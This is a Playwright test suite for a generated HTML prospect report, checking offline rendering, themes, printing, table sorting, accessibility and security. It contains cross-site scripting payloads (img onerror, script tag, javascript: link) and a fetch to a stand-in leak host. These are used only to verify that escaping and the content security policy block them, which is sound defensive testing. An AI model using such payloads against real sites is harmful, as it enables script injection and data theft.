"""The report as a reader sees it: a real chromium, the file on disk, no network.

To open it and draw its charts takes longer than most of what is tried on it: tests share a page that is open (`drawn`,
`flat`, `folded`), give it the size and the theme they need, and leave its rows in their first order.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from functools import cache
from itertools import pairwise
from pathlib import Path
from typing import Any, Literal

import polars as pl
import pytest
from playwright.sync_api import Browser, Page, expect
from support.jupyter import COLOUR_RULES, picture

from openprospect_nb.frames.results import Results
from openprospect_nb.reports import Report, report

pytestmark = pytest.mark.browser
Scheme = Literal["light", "dark"]
Media = Literal["null", "print"]
CHARTS = ("match", "quality", "reasons", "funnel", "risk", "frontier", "coverage")
A4_INSIDE = 1016  # CSS pixels between the margins of an A4 page
ATTACK = (
    "<img src=x onerror=\"window.pwned=1\"><script>window.pwned=2</script><a href='javascript:window.pwned=3'>x</a>"
)


BACKGROUND = {"light": "rgb(255, 255, 255)", "dark": "rgb(21, 24, 29)"}
INK = {"light": "rgb(31, 35, 40)", "dark": "rgb(230, 232, 235)"}


@dataclass
class Opened:
    """A page and everything it asked for or complained about."""

    page: Page
    complaints: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)

    def seen(self, *, width: int = 1200, height: int = 900, scheme: Scheme = "light", media: Media = "null") -> Page:
        """Return the page as it is at a size, in a theme; *media* "null" is the screen, and paper when printed."""
        self.page.set_viewport_size({"width": width, "height": height})
        self.page.emulate_media(color_scheme=scheme, media=media)
        return self.page

    def show(self, made: Report, parts: str = "") -> Page:
        """Open the file of *made* and unfold all of its parts, or those that a selector leaves."""
        self.page.goto(made.path.resolve().as_uri())
        return unfold(self.page, parts)

    def drawn(self, made: Report) -> Page:
        """Show *made* and wait for its last chart."""
        self.show(made)
        expect(self.page.locator("figure.chart.is-live")).to_have_count(len(made.summary.charts), timeout=30_000)
        return self.page


def unfold(page: Any, parts: str = "") -> Any:
    """Open every part, or those that a selector leaves, as a reader does."""
    for closed in page.locator(f"details.part{parts}:not([open]) > summary").all()[::-1]:
        closed.click()
    return page


@contextmanager
def visiting(browser: Browser) -> Iterator[Callable[..., Opened]]:
    """Make pages without network that record requests, failures and console messages."""
    contexts = []

    def make(**options: Any) -> Opened:
        context = browser.new_context(offline=True, **{"viewport": {"width": 1200, "height": 900}, **options})
        contexts.append(context)
        seen = Opened(context.new_page())
        seen.page.on("console", lambda message: seen.complaints.append(message.text))
        seen.page.on("pageerror", lambda error: seen.complaints.append(str(error)))
        seen.page.on("requestfailed", lambda request: seen.complaints.append(f"failed: {request.url}"))
        seen.page.on("request", lambda request: seen.requests.append(request.url.split(":", 1)[0]))
        return seen

    yield make
    for context in contexts:
        context.close()


@pytest.fixture
def visit(browser: Browser) -> Iterator[Callable[..., Opened]]:
    """Pages for one test."""
    with visiting(browser) as make:
        yield make


@pytest.fixture(scope="module")
def full(some_results: Results, tmp_path_factory: pytest.TempPathFactory) -> Report:
    """The interactive report of sixty companies, on disk."""
    return report(some_results, tmp_path_factory.mktemp("full") / "report.html")


@pytest.fixture(scope="module")
def lite(some_results: Results, tmp_path_factory: pytest.TempPathFactory) -> Report:
    """The same without scripts."""
    return report(some_results, tmp_path_factory.mktemp("lite") / "report.html", lite=True)


@pytest.fixture(scope="module")
def keep(browser: Browser) -> Iterator[Callable[..., Opened]]:
    """Pages for all tests."""
    with visiting(browser) as make:
        yield make


@pytest.fixture(scope="module")
def drawn(keep: Callable[..., Opened], full: Report) -> Opened:
    """The interactive report, all of its parts open and its charts drawn."""
    opened = keep()
    opened.drawn(full)
    return opened


@pytest.fixture(scope="module")
def folded(keep: Callable[..., Opened], full: Report) -> Opened:
    """The interactive report as it is when opened."""
    opened = keep()
    opened.page.goto(full.path.resolve().as_uri())
    return opened


@pytest.fixture(scope="module")
def folded_lite(keep: Callable[..., Opened], lite: Report) -> Opened:
    """The report without scripts as it is when opened."""
    opened = keep()
    opened.page.goto(lite.path.resolve().as_uri())
    return opened


@pytest.fixture(scope="module")
def flat(keep: Callable[..., Opened], lite: Report) -> Opened:
    """The report without scripts, all of its parts open."""
    opened = keep()
    opened.show(lite)
    return opened


@pytest.fixture(params=["full", "lite"])
def either(request: pytest.FixtureRequest) -> Opened:
    """Each of the two, all of its parts open."""
    return request.getfixturevalue({"full": "drawn", "lite": "flat"}[request.param])


def test_it_opens_offline_with_its_charts_and_the_table(drawn: Opened, some_results: Results) -> None:
    """Opened from disk without network, the report draws its charts, shows every company and stays silent."""
    page = drawn.seen()

    for key in CHARTS:
        marks = page.locator(f"#opr-chart-{key} .live").locator(".barlayer .point, .scatterlayer .trace")
        expect(marks.first).to_be_attached()
    expect(page.locator("#opr-table tbody tr")).to_have_count(some_results.companies.height)
    assert drawn.complaints == []
    assert drawn.requests == ["file"]


def test_without_javascript_nothing_is_missing(
    visit: Callable[..., Opened], full: Report, some_results: Results
) -> None:
    """Still pictures take the place of the charts, the table is there, and what needs a script is not shown."""
    page = visit(java_script_enabled=False).show(full)

    expect(page.locator(".still svg:visible")).to_have_count(len(CHARTS) + 1)
    expect(page.locator("#opr-table tbody tr:visible")).to_have_count(some_results.companies.height)
    expect(page.locator("#opr-search")).to_be_hidden()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [600, 1600])
def test_it_fits_narrow_and_wide_in_both_themes(drawn: Opened, width: int, scheme: Scheme) -> None:
    """Nothing makes the page wider than the window, and page and charts have the theme's background."""
    page = drawn.seen(width=width, height=1000, scheme=scheme)
    chart = page.locator("#opr-chart-match")
    room = chart.locator(".live").evaluate("e => e.clientWidth")

    expect(chart.locator(".main-svg").first).to_have_attribute("width", str(room))  # drawn again at this size
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    expect(chart.locator(".xtitle")).to_have_css("fill", INK[scheme])
    expect(page.locator(".opr")).to_have_css("background-color", BACKGROUND[scheme])
    expect(chart.locator(".main-svg").first).to_have_css("background-color", BACKGROUND[scheme])
    picture(page, f"report-{width}-{scheme}", whole=True)


def test_charts_follow_a_change_of_theme(drawn: Opened) -> None:
    """A reader whose system turns dark at night sees the open report turn dark, and light in the morning."""
    for scheme in ("light", "dark", "light"):
        expect(drawn.seen(scheme=scheme).locator("#opr-chart-match .main-svg").first).to_have_css(
            "background-color", BACKGROUND[scheme]
        )


def test_it_prints_on_a4_without_cut_charts(either: Opened) -> None:
    """In print the still pictures stand in, black on white even from a dark screen, each shorter than a page."""
    page = either.seen(width=688, height=A4_INSIDE, scheme="dark")
    pdf = page.pdf(format="A4")
    either.seen(width=688, height=A4_INSIDE, scheme="dark", media="print")
    figures = page.locator("figure.chart")

    assert pdf.startswith(b"%PDF")
    expect(page.locator(".still svg:visible")).to_have_count(len(CHARTS) + 1)
    expect(page.locator(".opr")).to_have_css("background-color", "rgb(255, 255, 255)")
    assert all(figures.nth(n).bounding_box()["height"] < A4_INSIDE for n in range(len(CHARTS)))
    assert {figures.nth(n).evaluate("e => getComputedStyle(e).breakInside") for n in range(len(CHARTS))} == {"avoid"}


def test_the_table_sorts_and_searches(drawn: Opened, some_results: Results) -> None:
    """A click on a heading sorts, unknown values last both ways; typing leaves the rows that hold the text."""
    page = drawn.seen()
    cells = page.locator("#opr-table tbody tr td:nth-child(5)")
    heading = page.get_by_role("button", name="Match")

    heading.click()
    falling = [text for text in cells.all_inner_texts() if text != "–"]
    heading.click()
    rising = cells.all_inner_texts()
    page.get_by_label("Search").fill("Wien")
    assert falling == sorted(falling, key=float, reverse=True)
    assert [text for text in rising if text != "–"] == sorted(falling, key=float)
    assert rising == sorted(rising, key=lambda text: text == "–")
    expect(page.locator("#opr-table tbody tr:visible")).to_have_count(
        some_results.companies.filter(pl.col("city") == "Wien").height
    )
    page.get_by_label("Search").fill("")


def test_numbers_sort_as_numbers_in_german(
    visit: Callable[..., Opened], make_results: Callable[..., Results], tmp_path: Path
) -> None:
    """1.250 employees are more than 560, though its first letters say otherwise."""
    results = make_results(6)
    counts = pl.Series([1250, 560, 40, 12, None, 120], dtype=pl.Int64)
    many = replace(results, companies=results.companies.with_columns(employee_count=counts))
    page = visit().page
    page.goto(report(many, tmp_path / "report.html", language="de").path.resolve().as_uri())
    page.locator("details#opr-companies > summary").click()
    page.get_by_role("button", name="Beschäftigte").click()

    texts = page.locator("#opr-table tbody tr td:nth-child(4)").all_inner_texts()
    assert texts == ["1.250", "560", "120", "40", "12", "–"]


@pytest.fixture(scope="module")
def spoilt(make_results: Callable[..., Results], tmp_path_factory: pytest.TempPathFactory) -> Callable[..., Report]:
    """The report of results that attack in every field, made once for the same options."""
    results = make_results(6)

    def attack(frame: pl.DataFrame) -> pl.DataFrame:
        keep = {"order_id", "id", "company_id", "source"}
        texts = [pl.lit(ATTACK).alias(n) for n, kind in frame.schema.items() if kind == pl.String and n not in keep]
        return frame.with_columns(texts).with_columns(
            pl.lit([ATTACK]).alias(n) for n, kind in frame.schema.items() if kind == pl.List(pl.String)
        )

    order = {**results.provenance["orders"][0], "title": ATTACK, "status": ATTACK}
    facts = {**results.provenance, "orders": [order], "icp": dict.fromkeys(results.provenance["icp"], ATTACK)}
    bad = Results(companies=attack(results.companies), prospects=attack(results.prospects), provenance=facts)

    @cache
    def make(**options: bool) -> Report:
        return report(bad, tmp_path_factory.mktemp("spoilt") / "report.html", title=ATTACK, **options)

    return make


@pytest.mark.parametrize("options", [{}, {"lite": True}, {"reveal": True}], ids=str)
@pytest.mark.parametrize("bypass", [True, False], ids=["escaping alone", "policy on"])
def test_hostile_text_runs_nothing(
    visit: Callable[..., Opened], spoilt: Callable[..., Report], options: dict[str, bool], bypass: bool
) -> None:
    """With an attack in every field nothing executes, with the policy in force and with escaping alone.

    The charts of a report that names people are drawn of the very data of one that does not, so once is enough.
    """
    opened, made = visit(bypass_csp=bypass), spoilt(**options)
    if options.get("reveal"):
        page = opened.show(made, ":not(#opr-charts)")
        assert charted(made) == charted(spoilt())
    else:
        page = opened.show(made) if made.lite else opened.drawn(made)
    for chart in page.locator(".live .nsewdrag").all():
        chart.hover()

    assert page.evaluate("window.pwned") is None
    assert page.locator("img, a[href^=javascript], a[href^=data]").count() == 0
    assert opened.requests == ["file"]
    assert opened.complaints == []


def charted(made: Report) -> str:
    """Return what the script of a report draws its charts of."""
    return re.search(r'<script[^>]* id="opr-data"[^>]*>(.*?)</script>', made.path.read_text("utf-8"), re.DOTALL)[1]


def test_the_policy_stops_what_slips_through(visit: Callable[..., Opened], full: Report) -> None:
    """Were a script ever let into the page, the policy would not run it, nor an event handler, nor a fetch."""
    opened = visit()
    page = opened.page
    page.goto(full.path.resolve().as_uri())
    page.evaluate(
        """() => {
          const script = document.createElement("script");
          script.textContent = "window.pwned = 1";
          document.body.append(script);
          const holder = document.createElement("div");
          holder.innerHTML = '<img src="data:," onerror="window.pwned = 2">';
          document.body.append(holder);
        }"""
    )
    fetched = page.evaluate("fetch('https://leak.example/').then(() => 'sent', () => 'stopped')")

    assert fetched == "stopped"
    expect(page.locator("img")).to_have_count(1)
    assert page.evaluate("window.pwned") is None
    assert sum("Content Security Policy" in text for text in opened.complaints) >= 2


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_serious(either: Opened, axe: str, scheme: Scheme) -> None:
    """The accessibility checker reports no serious or critical problem, contrast included."""
    page = either.seen(scheme=scheme)
    if not page.evaluate("'axe' in window"):
        page.evaluate(axe)
    # The second theme differs in its colours alone.
    rules = {} if scheme == "light" else {"runOnly": COLOUR_RULES}
    found = page.evaluate("asked => axe.run(asked)", {"resultTypes": ["violations"], **rules})
    serious = [
        (each["id"], each["nodes"][0]["html"][:200])
        for each in found["violations"]
        if each["impact"] in {"serious", "critical"}
    ]

    assert serious == []


def test_page_one_answers_without_scrolling(folded: Opened) -> None:
    """At 1440 by 900 sentence, numbers, companies, frontier and cautions are on the first screen."""
    page = folded.seen(width=1440)

    assert page.locator("section.first").bounding_box()["height"] > 0
    bottom = page.evaluate("document.querySelector('section.first').getBoundingClientRect().bottom")
    assert bottom <= 900
    expect(page.locator("details.part[open]")).to_have_count(0)


def test_long_tables_come_in_pages(drawn: Opened, some_results: Results) -> None:
    """Fifty companies at a time, the next ones by a button, and a search begins at its first page."""
    page = drawn.seen()
    rows = page.locator("#opr-table tbody tr:visible")

    expect(rows).to_have_count(50)
    page.get_by_role("button", name="Next 50").click()
    expect(rows).to_have_count(some_results.companies.height - 50)
    page.get_by_label("Search").fill("Fjordarm 1")
    expect(page.locator("#opr-found")).to_contain_text("1–")
    page.get_by_label("Search").fill("")


@pytest.mark.parametrize("size", ["A4", "Letter"])
@pytest.mark.parametrize("name", ["full", "lite"])
def test_paper_has_what_the_screen_folds(request: pytest.FixtureRequest, name: str, size: str) -> None:
    """Printed, every part is open and no row is left out: page one, charts, companies and an appendix of one sheet."""
    opened = request.getfixturevalue({"full": "folded", "lite": "folded_lite"}[name])
    page = opened.seen()

    assert sheets(page, size) <= 4
    opened.seen(media="print")
    assert page.locator("#opr-table tbody tr").last.bounding_box()["height"] > 0


@pytest.fixture(scope="module")
def several(
    keep: Callable[..., Opened], make_results: Callable[..., Results], tmp_path_factory: pytest.TempPathFactory
) -> Page:
    """Sixty companies of three orders, without scripts, as the report is when opened."""
    orders = Results.concat([make_results(20, order_id=name, seed=place) for place, name in enumerate("abc")])
    page = keep().page
    page.goto(report(orders, tmp_path_factory.mktemp("several") / "r.html", lite=True).path.resolve().as_uri())
    return page


@pytest.mark.parametrize("size", ["A4", "Letter"])
def test_several_orders_are_few_sheets(several: Page, size: str) -> None:
    """Sixty companies of three orders: page one, the comparison, charts, companies, and an appendix of one sheet."""
    assert sheets(several, size) <= 5


def sheets(page: Page, size: str) -> int:
    """How many sheets of paper a page is printed on."""
    return len(re.findall(rb"/Type\s*/Page\b", page.pdf(format=size)))


def test_on_a_phone_rows_are_cards(flat: Opened) -> None:
    """At 390 pixels no table is cut: cells stand below each other under their names, and nothing is too wide."""
    page = flat.seen(width=390, height=844)

    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    expect(page.locator("#opr-table tbody tr").first).to_have_css("display", "block")


def test_the_keyboard_reaches_the_companies_first(visit: Callable[..., Opened], full: Report) -> None:
    """The first stop is the way past the charts, and headings are nested without gaps."""
    page = visit().page
    page.goto(full.path.resolve().as_uri())
    page.keyboard.press("Tab")
    levels = [int(level[1]) for level in page.eval_on_selector_all("h1,h2,h3", "all => all.map(h => h.tagName)")]

    assert page.evaluate("document.activeElement.className") == "skip"
    page.keyboard.press("Enter")
    expect(page.locator("details#opr-companies")).to_have_attribute("open", "")
    assert levels[0] == 1
    assert all(after - before <= 1 for before, after in pairwise(levels))


def test_the_notebook_frame_shows_the_table(visit: Callable[..., Opened], full: Report, some_results: Results) -> None:
    """The notebook's markup shows companies and still pictures in a sandboxed frame."""
    page = visit().page
    page.set_content(full._repr_html_())
    frame = page.frame_locator("iframe")

    expect(frame.locator("#opr-table tbody tr")).to_have_count(min(100, some_results.companies.height))
    expect(frame.locator(".still svg")).to_have_count(len(CHARTS) + 1)
    assert re.search("Report", page.locator("iframe").get_attribute("title"))
